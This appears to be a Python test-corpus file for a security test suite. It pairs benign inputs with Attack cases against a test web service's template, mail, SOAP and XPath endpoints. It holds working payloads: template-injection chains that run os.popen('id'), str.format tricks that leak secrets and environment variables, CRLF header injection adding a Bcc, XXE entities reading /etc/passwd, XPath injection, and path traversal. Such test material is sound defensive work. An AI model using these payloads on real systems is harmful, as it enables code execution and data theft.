"""Templates, mails, headers, markup and XML."""

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.fifth import (
    CRON,
    EMOJI,
    ESSAY,
    IRISH,
    JAVA,
    LINK,
    MAIL_HTML,
    NESTED,
    NOTES,
    PROSE,
    QUOTED,
    SCRIPTS,
    SNIPPET,
    TICKET,
    WINDOWS,
    bridge,
    gateway,
)

NEEDS = ("aws-http",)
ID = "uid="
SIGNING = "pages-signing-5150"


def _welcome(greeting: str, name: str = "Ann", **more: str) -> dict[str, object]:
    return gateway("POST", "/welcome", {"greeting": greeting, "name": name, **more})


def _mail(subject: str, text: str, sender: str = "ann@example.org") -> dict[str, object]:
    return gateway("POST", "/contact", {"subject": subject, "text": text, "email": sender})


def _page(page: str, **query: str) -> dict[str, object]:
    return gateway("GET", "/pages", ids={"page": page}, query=query)


def _xml(text: str) -> dict[str, object]:
    return {**gateway("POST", "/soap", text), "headers": {"content-type": "text/xml; charset=utf-8"}}


def _banner(text: str) -> dict[str, object]:
    return bridge("Banner", {"text": text})


ENTITY = '<!DOCTYPE o [<!ENTITY e SYSTEM "file:///etc/passwd">]><order><note>&e;</note></order>'
REQUESTS = {
    "welcome": [
        _welcome("nice to have you here, it's free & easy", IRISH, plan="gold"),
        _welcome("100% {off} today: use `SELECT` # not $x", "{{ 7*7 }}{% raw %}"),
        _welcome(PROSE, MAIL_HTML),
    ],
    "order_page": [
        {
            "title": "{{ config }}",
            "lines": [{"name": IRISH, "price": 2}, {"name": "{% for %}", "price": -1.5}],
        },
        {"title": MAIL_HTML, "lines": [{"name": TICKET, "price": 0}]},
    ],
    "tenant_template": [
        {
            "template": "Hi {{ customer.name|upper }}{% for i in items %} {{ i }};{% endfor %}",
            "customer": {"name": "Ann"},
            "items": ["a'b", 2],
        },
        {"template": "{{ customer.__class__.__mro__ }}", "customer": {"name": SCRIPTS}},
        {"template": "{{ customer.name", "customer": {"name": "x"}},
    ],
    "page_by_name": [
        _page("a"),
        _page("b", layout='<b title="it\'s">%s</b>'),
        _page("../../etc/passwd"),
        _page("select"),
    ],
    "banner": [_banner("Sale: -20% on tea & mugs"), _banner("It's <b>here</b>; see /sale?x=1#top")],
    "subject_line": [
        {"subject": "{customer.name}, your {customer.plan} plan at {shop}", "name": "O'Brien {x}"},
        {"subject": "100% -- {shop:>10}; {{literal}}", "name": EMOJI},
    ],
    "reminder": [
        {"text": "Dear $name: $5 off at ${shop}, {name} %s", "name": JAVA},
        {"text": ESSAY + TICKET, "name": "$shop"},
    ],
    "article": [
        {"text": NOTES},
        {"text": f"```python\n{SNIPPET}```\n\n| a | b |\n|---|---|\n| `{CRON}` | {QUOTED} |"},
    ],
    "raw_mail": [
        _mail("Broken: SELECT in the menu", TICKET),
        _mail("Re: Bcc: who?", "Bcc: evil@example.net\r\nin the text is fine\n", "o'brien+x@example.org"),
        _mail("100% tea & -- mugs; {x}", MAIL_HTML),
    ],
    "proper_mail": [_mail(EMOJI, SNIPPET), _mail("x\r\nBcc: evil@example.net", "x"), _mail(IRISH, NESTED)],
    "old_partner": [{"user": "O'Brien; id=7"}, {"user": "a: b, X-Admin: yes"}],
    "soap_order": [
        _xml(
            "<?xml version='1.0'?><order><item q='2'>Tea &amp; mugs &lt;b&gt; &#x2705;</item><note>it's -- ok</note></order>"
        ),
        _xml(f"<order><![CDATA[{SNIPPET}]]></order>"),
    ],
    "feed": [
        _xml(
            f"<rss><item id=\"1'2\"><title>{LINK.replace('&', '&amp;')}</title></item><item><title>' or 1=1</title></item></rss>"
        ),
        _xml("<rss><item>"),
        _xml("<!-- <!ENTITY x> --><rss><item id='null'><title>]]&gt; select</title></item></rss>"),
    ],
    "pay": [
        {"name": "ann", "pin": "1111"},
        {"name": "bob & co", "pin": "or 1=1"},
        {"name": "//one[1]", "pin": "..."},
    ],
    "pay_bound": [
        {"name": "O'Brien", "pin": "2222"},
        {"name": "' or '1'='1", "pin": "' or ''='"},
        {"name": QUOTED, "pin": WINDOWS},
    ],
    "sitemap": [{"urls": [LINK, "file:///etc/passwd", "https://example.org/?q=<x>&y='z'"]}, {"urls": [JAVA]}],
}
ATTACKS = [
    Attack("template", "welcome", _welcome("{{ cycler.__init__.__globals__.os.popen('id').read() }}"), ID),
    Attack("template", "welcome", _welcome("{{ 7919*7927 }}"), "62773913"),
    Attack(
        "template",
        "welcome",
        _welcome("{% set x = lipsum|attr('__glo' ~ 'bals__') %}{{ x['os']['popen']('id')['read']() }}"),
        ID,
    ),
    Attack(
        "template",
        "welcome",
        _welcome(
            "{% for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close' %}{{ c.__init__.__globals__['popen']('id').read() }}{% endfor %}"
        ),
        ID,
    ),
    Attack(
        "template",
        "page_by_name",
        _page("a", layout="%s{{ joiner.__init__.__globals__.os.environ.PARTNER_HOST }}|{{ 13*77 }}"),
        "|1001",
    ),
    Attack(
        "template",
        "page_by_name",
        _page("a", layout="{% set o = namespace.__init__.__globals__.os %}{{ o.listdir('/etc') }}"),
        "passwd",
    ),
    Attack("template", "banner", _banner("${open('/etc/passwd').read()}"), "root:x:0"),
    Attack("template", "banner", _banner("<%\nimport os\nx = os.popen('id').read()\n%>${x}"), ID),
    Attack("template", "banner", _banner("${self.module.runtime.util.os.listdir('/etc')}"), "passwd"),
    Attack(
        "str.format",
        "subject_line",
        {"subject": "{customer.__init__.__globals__[SIGNING]}", "name": "x"},
        SIGNING,
    ),
    Attack(
        "str.format",
        "subject_line",
        {"subject": "{customer.__class__.__init__.__globals__[os].environ}", "name": "x"},
        "PARTNER_HOST",
    ),
    Attack("header", "raw_mail", _mail("Hi\r\nBcc: evil@example.net", "x"), "evil@example.net"),
    Attack(
        "header", "raw_mail", _mail("Hi", "x", "a@example.org\nBcc: evil@example.net"), "evil@example.net"
    ),
    Attack("header", "old_partner", {"user": "x\r\nX-Admin: yes-4242"}, "yes-4242"),
    Attack("XXE", "soap_order", _xml(ENTITY), "root:x:0"),
    Attack(
        "XXE",
        "soap_order",
        _xml(
            '<?xml version="1.0"?><!DOCTYPE o [<!ENTITY a "x"><!ENTITY f SYSTEM "/etc/passwd">]><o>&a;&f;</o>'
        ),
        "root:x:0",
    ),
    Attack(
        "XXE",
        "soap_order",
        _xml('<!DOCTYPE o [<!ENTITY e SYSTEM "file:///proc/sys/kernel/ostype">]><o>&e;</o>'),
        "Linux",
    ),
    Attack("XPath", "pay", {"name": "ann' or '1'='2", "pin": "x"}, "pay-of-ann-90"),
    Attack(
        "XPath", "pay", {"name": "x", "pin": "'] | //one[@name='ann']/pay/text() | //x['"}, "pay-of-ann-90"
    ),
    Attack(
        "XPath, blind",
        "pay",
        {"name": "ann' and starts-with(//one[1]/pay, 'pay-of') or 'a'='b", "pin": "x"},
        "pay-of-ann-90",
    ),
]
